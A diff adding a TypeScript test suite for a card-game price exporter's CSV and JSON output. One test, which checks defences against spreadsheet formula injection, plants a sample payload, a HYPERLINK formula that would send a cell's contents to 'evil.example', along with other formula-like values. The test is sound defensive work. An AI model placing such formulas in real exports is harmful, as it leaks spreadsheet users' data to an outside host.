@@ -1,0 +1,179 @@
+import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
+import { EXPORT_FORMATS, exportSet, exportSets } from '#actions/pricing/export-prices.ts'
+import { parseCsv } from '../../support/csv.ts'
+import { type House, openHouse } from '../../support/test-app.ts'
+import type { Row } from '../../support/test-user.ts'
+
+const SETS = [90011, 90012, 90021, 90022, 90031]
+
+const HEADER = [
+  ...['game', 'game_name', 'set_id', 'set', 'set_code', 'card_id', 'name', 'number', 'rarity'],
+  ...['marketplace_id', 'product_type', 'foil_only', 'printing', 'market_price', 'low_price'],
+  ...['median_price', 'lowest_with_shipping', 'buylist_price', 'price_change_24h'],
+  ...['price_change_7d', 'price_change_30d', 'last_updated_at'],
+]
+
+let house: House
+
+beforeAll(async () => {
+  house = await openHouse()
+})
+afterAll(() => house.close())
+
+const textOf = (pieces: Iterable<string>) => [...pieces].join('')
+
+/** The records of a CSV table by the names of its columns. */
+function rowsOf(csv: string): Record<string, string>[] {
+  const [header = [], ...records] = parseCsv(csv)
+  return records.map((record) => {
+    expect(record).toHaveLength(header.length)
+    return Object.fromEntries(record.map((cell, index) => [header[index] ?? '', cell]))
+  })
+}
+
+const pricesOf = async (set: number) =>
+  (await house.visitor.get<Row[]>(`/v1/sets/${set}/prices`, { as: 'business' })).body.data
+
+const cardsOf = async (set: number) =>
+  (await house.visitor.get<Row[]>(`/v1/sets/${set}/cards?per_page=100`, { as: 'business' })).body
+    .data
+
+describe('a set as CSV', () => {
+  test('is a table with a header, one record a printing, by RFC 4180', async () => {
+    for (const set of SETS) {
+      const csv = textOf(exportSet(house.deps, set, 'csv'))
+      expect(parseCsv(csv)[0]).toEqual(HEADER)
+      const rows = rowsOf(csv).filter((row) => row.printing !== '')
+      const prices = await pricesOf(set)
+      expect(rows).toHaveLength(prices.length)
+      for (const [index, price] of prices.entries()) {
+        for (const [field, value] of Object.entries(price)) {
+          const told = rows[index]?.[field]
+          expect([field, told]).toEqual([field, value === null ? '' : String(value)])
+        }
+        expect(rows[index]).toMatchObject({ set_id: String(set) })
+      }
+    }
+  })
+
+  test('has every card of the set, one without prices, too', async () => {
+    for (const set of SETS) {
+      const rows = rowsOf(textOf(exportSet(house.deps, set, 'csv')))
+      const cards = await cardsOf(set)
+      expect([...new Set(rows.map((row) => Number(row.card_id)))]).toEqual(
+        cards.map((card) => Number(card.id)),
+      )
+    }
+    const rows = rowsOf(textOf(exportSet(house.deps, 90011, 'csv')))
+    expect(rows.find((row) => row.card_id === '900082')).toMatchObject({
+      name: 'Lantern Season Booster Box Case',
+      printing: '',
+      market_price: '',
+    })
+  })
+
+  test('tells the game and the set in every record', () => {
+    for (const row of rowsOf(textOf(exportSet(house.deps, 90021, 'csv')))) {
+      expect(row).toMatchObject({
+        game: 'vellum-and-thorn',
+        game_name: expect.stringContaining('Vellum & Thorn'),
+        set_id: '90021',
+        set: 'The Ninth Library',
+        set_code: 'NLB',
+      })
+    }
+  })
+
+  test('a price that fell is a negative number, not a text', () => {
+    const falls = SETS.flatMap((set) => rowsOf(textOf(exportSet(house.deps, set, 'csv')))).filter(
+      (row) => row.price_change_7d?.startsWith('-'),
+    )
+    expect(falls.length).toBeGreaterThan(0)
+    for (const row of falls) expect(Number(row.price_change_7d)).toBeLessThan(0)
+  })
+
+  test('text that a spreadsheet would run is inert, in whichever column', async () => {
+    const own = await openHouse()
+    const evil = '=HYPERLINK("http://evil.example?"&A1)'
+    own.catalogDb
+      .prepare('UPDATE cards SET name = ?, number = ?, rarity = ? WHERE id = 900201')
+      .run(evil, '+1', '-2')
+    own.catalogDb
+      .prepare("UPDATE sets SET name = ?, abbreviation = '@A1' WHERE id = 90021")
+      .run('=1+1')
+    own.catalogDb.exec("UPDATE games SET name = '-cmd' WHERE id = 9002")
+    const csv = textOf(exportSet(own.deps, 90021, 'csv'))
+    const rows = rowsOf(csv)
+    expect(rows.find((row) => row.card_id === '900201')).toMatchObject({
+      name: `'${evil}`,
+      number: "'+1",
+      rarity: "'-2",
+      set: "'=1+1",
+      set_code: "'@A1",
+      game_name: "'-cmd",
+    })
+    const numbers = new Set(['price_change_24h', 'price_change_7d', 'price_change_30d'])
+    for (const row of rows) {
+      for (const [column, cell] of Object.entries(row)) {
+        if (!numbers.has(column))
+          expect([column, /^[=+\-@\t\r\0]/.test(cell)]).toEqual([column, false])
+      }
+    }
+    own.close()
+  })
+
+  test('names with commas, quotes and line ends come through', async () => {
+    const own = await openHouse()
+    const name = 'Rock, "Paper"\r\nand Scissors; naïve – Ω カード'
+    own.catalogDb.prepare('UPDATE cards SET name = ? WHERE id = 900201').run(name)
+    const rows = rowsOf(textOf(exportSet(own.deps, 90021, 'csv')))
+    expect(rows.find((row) => row.card_id === '900201')?.name).toBe(name)
+    own.close()
+  })
+})
+
+describe('a set as JSON', () => {
+  test('is the game, the set, and the prices of /v1/sets/{id}/prices', async () => {
+    for (const set of SETS) {
+      const told = JSON.parse(textOf(exportSet(house.deps, set, 'json')))
+      expect(Object.keys(told)).toEqual(['game', 'set', 'prices'])
+      const asked = await house.visitor.get(`/v1/sets/${set}`, { as: 'business' })
+      expect(told.set).toEqual(asked.body.data)
+      expect(told.game.slug).toBe(told.set.game_slug)
+      const priced = told.prices.filter((row: Row) => row.printing !== undefined)
+      expect(priced).toEqual(await pricesOf(set))
+      const ids = [...new Set(told.prices.map((row: Row) => row.card_id))]
+      expect(ids).toEqual((await cardsOf(set)).map((card) => card.id))
+    }
+  })
+})
+
+describe('several sets', () => {
+  test('are one table, or one array, of what each of them is alone', () => {
+    const csv = rowsOf(textOf(exportSets(house.deps, SETS, 'csv')))
+    expect(csv).toEqual(SETS.flatMap((set) => rowsOf(textOf(exportSet(house.deps, set, 'csv')))))
+    const json = JSON.parse(textOf(exportSets(house.deps, SETS, 'json')))
+    expect(json).toEqual(SETS.map((set) => JSON.parse(textOf(exportSet(house.deps, set, 'json')))))
+  })
+
+  test('tell how far they are', () => {
+    const done: number[] = []
+    textOf(exportSets(house.deps, SETS, 'csv', (count) => done.push(count)))
+    expect(done).toEqual([1, 2, 3, 4, 5])
+  })
+
+  test('that are none are an empty table and an empty array', () => {
+    expect(parseCsv(textOf(exportSets(house.deps, [], 'csv')))).toEqual([HEADER])
+    expect(JSON.parse(textOf(exportSets(house.deps, [], 'json')))).toEqual([])
+  })
+
+  test('of which one is not there are the others', () => {
+    for (const format of EXPORT_FORMATS) {
+      const withOut = textOf(exportSets(house.deps, [90011, 1, 90012], format))
+      const without = textOf(exportSets(house.deps, [90011, 90012], format))
+      expect(format === 'json' ? JSON.parse(withOut) : withOut).toEqual(
+        format === 'json' ? JSON.parse(without) : without,
+      )
+    }
+  })
+})
